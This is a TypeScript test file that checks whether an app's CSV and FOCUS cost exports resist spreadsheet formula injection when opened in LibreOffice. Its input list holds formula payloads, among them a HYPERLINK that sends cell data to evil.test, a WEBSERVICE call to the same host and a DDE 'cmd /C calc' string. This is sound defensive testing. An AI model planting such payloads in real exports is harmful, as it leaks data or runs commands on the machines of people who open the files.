import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { delimiter, join } from 'node:path';
import { expect, test } from 'vitest';
import { startTestCore, type TestCore } from '../testing/core.ts';

/** Cells a spreadsheet would take for formulas, and some it would take for numbers or dates. */
const names = [
  '=1+1',
  '=HYPERLINK("https://evil.test/?x="&A1,"gpt-5")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  '=1+1"',
  ';=1+1',
  '=WEBSERVICE("https://evil.test/")',
  '\u202e=1+1',
  '＝1+1',
];

const header = 'When,What,Whose,Price,In,Out';
const rows = names.map((name, index) => {
  const cell = `"${name.replaceAll('"', '""')}"`;
  return `2026-07-01T10:00:${String(index).padStart(2, '0')}Z,${cell},${cell},${index % 2 ? '-1.25' : '1234.5'},9007199254,0`;
});
const mapping = {
  name: 'Own',
  columns: { date: 'When', model: 'What', project: 'Whose', cost: 'Price', input: 'In', output: 'Out' },
  dateFormat: 'iso',
  zone: 'UTC',
  decimal: '.',
  inputIncludesCache: false,
  currency: 'USD',
  provider: 'acme',
  evidence: 'billed',
} as const;

const soffice = findOffice();
if (soffice === null)
  process.stderr.write(
    'exports in LibreOffice: skipped, there is no soffice on PATH (or in LLMLAB_SOFFICE)\n',
  );

test.skipIf(soffice === null)(
  'exports open in LibreOffice with no formula evaluated and numbers still numbers',
  { timeout: 180_000 },
  async () => {
    await using t = await startTestCore();
    const path = join(t.dir, 'own.csv');
    writeFileSync(path, `${[header, ...rows].join('\n')}\n`);
    const { files } = await t.call('imports.commit', { file: { path }, mapping });
    expect(files[0]?.counts).toMatchObject({ accepted: names.length, refused: 0 });
    const exported = [await saved(t, 'csv'), await saved(t, 'focus')];
    const naked = join(t.dir, 'naked.csv');
    writeFileSync(naked, 'name,price\n=1+1,-1.25\n');
    const [plain, csv, focus] = asSheets(t.dir, [naked, ...exported]);

    expect(plain?.formulas, 'a cell without the guard is evaluated, or this test proves nothing').toBe(1);
    expect([csv?.formulas, focus?.formulas]).toEqual([0, 0]);
    const money = (sheet: typeof csv) =>
      sheet?.numbers.filter((value) => value === 1234.5 || value === -1.25);
    expect(money(csv)).toHaveLength(names.length);
    expect(csv?.numbers.filter((value) => value === 9_007_199_254)).toHaveLength(names.length);
    // BilledCost, ContractedCost, EffectiveCost and ListCost.
    expect(money(focus)).toHaveLength(4 * names.length);
  },
);

async function saved(t: TestCore, format: 'csv' | 'focus'): Promise<string> {
  const { exportId } = await t.call('exports.create', { format, filters: {} });
  const path = join(t.dir, `${format}.csv`);
  writeFileSync(path, readFileSync(join(t.dataDir, 'exports', exportId)));
  return path;
}

interface Sheet {
  readonly formulas: number;
  readonly numbers: readonly number[];
}

/** Opens CSV files as a person would, formulas allowed, and says what the sheets hold. */
function asSheets(dir: string, paths: readonly string[]): readonly Sheet[] {
  const out = join(dir, 'sheets');
  mkdirSync(out);
  // Comma, quote, UTF-8, from line 1; special numbers told apart; formulas evaluated (the 13th).
  const filter = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';
  const profile = `-env:UserInstallation=file://${join(dir, 'office')}`;
  const args = [
    profile,
    '--headless',
    '--norestore',
    `--infilter=${filter}`,
    '--convert-to',
    'fods',
    '--outdir',
    out,
  ];
  const { status, stderr } = spawnSync(soffice ?? '', [...args, ...paths], { encoding: 'utf8' });
  expect(status, stderr).toBe(0);
  return paths.map((path) => {
    const xml = readFileSync(join(out, path.replace(/^.*[\\/]/, '').replace(/csv$/, 'fods')), 'utf8');
    // Equal cells side by side are written once, with how often.
    const cells = [...xml.matchAll(/<table:table-cell [^>]*office:value-type="float"[^>]*>/g)].map(
      ([tag]) => tag,
    );
    const numbers = cells.flatMap((tag) => {
      const stated = (name: string) => Number(new RegExp(`${name}="([^"]+)"`).exec(tag)?.[1] ?? 1);
      return Array<number>(stated('number-columns-repeated')).fill(stated('office:value'));
    });
    return { formulas: [...xml.matchAll(/table:formula=/g)].length, numbers };
  });
}

function findOffice(): string | null {
  const named = process.env.LLMLAB_SOFFICE;
  if (named) return named;
  const dirs = (process.env.PATH ?? '').split(delimiter).filter(Boolean);
  return dirs.map((dir) => join(dir, 'soffice')).find((path) => existsSync(path)) ?? null;
}
